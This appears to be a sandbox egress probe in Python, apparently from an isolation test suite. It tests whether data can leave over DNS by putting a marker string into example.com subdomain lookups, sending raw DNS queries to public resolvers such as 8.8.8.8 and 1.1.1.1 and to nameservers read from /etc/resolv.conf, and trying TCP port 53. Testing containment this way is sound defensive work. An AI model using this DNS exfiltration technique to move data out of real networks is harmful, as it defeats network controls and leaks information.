# Carries words out in the names it asks for, by the system's resolver and by its own packets.
import re
import socket

from prelude import MARK, TOLD, attempt, out

query = (
    b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0"
    + b"".join(bytes([len(p)]) + p for p in (b"mark", b"example", b"com"))
    + b"\0\0\x01\0\x01"
)
for name in (f"{MARK[:40]}.example.com", "localhost.example.com"):
    with attempt():
        out(f"resolved: {socket.getaddrinfo(name, 80)}")
servers = ["127.0.0.53", "8.8.8.8", "1.1.1.1", "2001:4860:4860::8888", TOLD["ADDRESS"]]
with attempt(), open("/etc/resolv.conf") as file:
    servers += re.findall(r"nameserver\s+(\S+)", file.read())
for server in servers:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    for port in (53, 853, 5353, int(TOLD["UDP4"])):
        with attempt(), socket.socket(family, socket.SOCK_DGRAM) as one:
            one.settimeout(0.1)
            one.connect((server, port))
            one.send(query)
            out(f"an answer from {server}: {one.recv(512)!r}")
    with attempt():
        socket.create_connection((server, 53), 0.5).close()
        out(f"connected to {server}")
print("tried")
